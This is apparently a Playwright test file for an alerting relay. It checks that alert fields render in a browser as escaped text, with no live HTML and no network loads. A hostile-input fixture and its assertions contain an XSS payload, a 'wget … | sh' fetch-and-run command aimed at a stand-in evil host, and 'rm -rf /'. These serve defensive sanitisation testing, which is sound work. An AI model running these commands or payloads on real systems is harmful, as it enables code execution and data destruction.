import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { decodeWebhookBody } from '../../lib/alert/decode-webhook';
import { readAlert } from '../../lib/alert/read-alert';
import type { SquadcastIncident } from '../../lib/incident/to-incident';
import { toIncident } from '../../lib/incident/to-incident';
import capture2017 from '../fixtures/published/capture-2017-batch.json';
import f5Payloads from '../fixtures/published/f5-webhooks-payloads.json';
import supportArticle from '../fixtures/published/support-article-bare-alert.json';
import type { BrowserSession } from '../helpers/browser';
import { browserTestNamed, hasBrowser, openBrowser, SCREENSHOTS } from '../helpers/browser';
import { markdown } from '../helpers/markdown-render';

/**
 * Incidents as a responder sees them in a browser: descriptions rendered by markdown-it (raw HTML and
 * linkify on) into one page, opened in headless Chromium driven by playwright-core. The page is
 * checked in the browser (no link, image or HTML element from alert text; the values as text) and a
 * screenshot goes to tmp/screenshots/incidents.png (gitignored).
 */
/** Browser globals used inside `evaluate` callbacks (the project compiles without the DOM lib). */
declare const document: {
  querySelectorAll(selector: string): ArrayLike<{ readonly tagName: string }>;
  readonly body: { readonly textContent: string | null };
};

const browserTest = browserTestNamed('incident render');
const RECEIVED_AT = new Date('2026-12-01T09:30:00.000Z');

const fromFixture = (body: unknown): SquadcastIncident => {
  const decoded = decodeWebhookBody(body, RECEIVED_AT);
  if (decoded.kind === 'invalid' || decoded.value.alerts[0] === undefined) throw new Error('fixture does not decode');
  return toIncident(decoded.value.alerts[0].read);
};

const INCIDENTS: ReadonlyArray<readonly [string, SquadcastIncident]> = [
  ['2017 capture (JSON numbers)', fromFixture(capture2017)],
  ['support article (bare alert, numeric strings, organization_Name)', fromFixture(supportArticle)],
  ['F5-era sample (created_at as a string)', fromFixture(f5Payloads)],
  [
    'hostile text in every field',
    toIncident(
      readAlert(
        {
          id: '7c1e2f30-1a2b-11ee-8c90-0242ac120002',
          title: 'Host: curl http://evil.example/phish by root@evil.example <img src=x onerror=alert(1)>',
          created_at: 1_764_579_000_000,
          severity: 1,
          organization_id: '5f0c1d2e3a4b5c6d7e8f9a0b',
          organization_name: 'Example *Corp* & Co',
          server_or_region: 'web|1.example.internal',
          source: 'Host',
          command: 'wget www.evil.example/x.sh -O- | sh',
          note: '&lt;script&gt; [click](http://evil.example) `rm -rf /`',
        },
        { receivedAt: RECEIVED_AT },
      ),
    ),
  ],
  [
    'degraded (severity 4, created_at as an HTTP date, server_or_region null, no id)',
    toIncident(
      readAlert(
        {
          title: 'Host: new payload shape',
          created_at: 'Tue, 01 Dec 2026 09:29:58 GMT',
          severity: 4,
          organization_id: '5f0c1d2e3a4b5c6d7e8f9a0b',
          server_or_region: null,
          source: 'Host',
        },
        { receivedAt: RECEIVED_AT },
      ),
    ),
  ],
];

const escapeHtml = (text: string): string =>
  text.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c] ?? c);

const page_ = (): string =>
  [
    '<!doctype html><html><head><meta charset="utf-8">',
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`,
    '<style>body{font:14px system-ui,sans-serif;margin:16px;max-width:1100px} section{border:1px solid #ccc;border-radius:6px;padding:8px 14px;margin-bottom:14px}',
    'h2{font-size:13px;color:#555;margin:0 0 6px} .meta{color:#333;font-size:12px} table{border-collapse:collapse} td,th{border:1px solid #ddd;padding:3px 8px;text-align:left;vertical-align:top}',
    'code{background:#f3f3f3;padding:0 3px;border-radius:3px}</style></head><body>',
    ...INCIDENTS.map(
      ([name, incident]) =>
        `<section><h2>${escapeHtml(name)}</h2><div class="meta">message: <b>${escapeHtml(incident.message)}</b> · priority ${incident.priority} · event_id ${escapeHtml(incident.event_id)}</div><div class="description">${markdown.render(incident.description)}</div></section>`,
    ),
    '</body></html>',
  ].join('\n');

let session: BrowserSession | undefined;
let page: Page;
let requested: string[] = [];

beforeAll(async () => {
  if (!hasBrowser) return;
  session = await openBrowser({ width: 1100, height: 900 });
  ({ page, requested } = session);
  await page.setContent(page_());
}, 90_000);

afterAll(async () => {
  await session?.close();
});

browserTest('the rendered descriptions hold no link, image, script or other HTML from alert text, and load nothing', async () => {
  const tags = await page.evaluate(() =>
    Array.from(document.querySelectorAll('.description *'), (element) => element.tagName.toLowerCase()),
  );
  expect([...new Set(tags)].sort()).toEqual(['code', 'p', 'strong', 'table', 'tbody', 'td', 'th', 'thead', 'tr']);
  expect(requested.filter((url) => !url.startsWith('about:') && !url.startsWith('data:'))).toEqual([]);
});

browserTest('the values read verbatim in the page: ids, hosts, times, organization ids, alert text', async () => {
  const text = await page.evaluate(() => document.body.textContent ?? '');
  for (const value of [
    '491a4393-daa0-11e7-9b7b-031f88193b03',
    'ip-172-31-26-113',
    '2017-12-06T16:12:41.417Z',
    '56fd4f3e8b2a1c0012345678',
    'db-2.example.internal',
    '2016-03-31T17:57:04.000Z',
    'web|1.example.internal',
    'http://evil.example/phish',
    '<img src=x onerror=alert(1)>',
    'Example *Corp* & Co',
    '&lt;script&gt; [click](http://evil.example) `rm -rf /`',
    'wget www.evil.example/x.sh -O- | sh',
    'Fields the relay could not read:',
    'Unknown: 4 as sent',
    '"Tue, 01 Dec 2026 09:29:58 GMT" as sent',
  ])
    expect({ value, shown: text.includes(value) }).toEqual({ value, shown: true });
  expect(text).not.toContain('\\');
  const path = join(SCREENSHOTS, 'incidents.png');
  await page.screenshot({ path, fullPage: true });
  console.log(`incident screenshot: ${path}`);
});
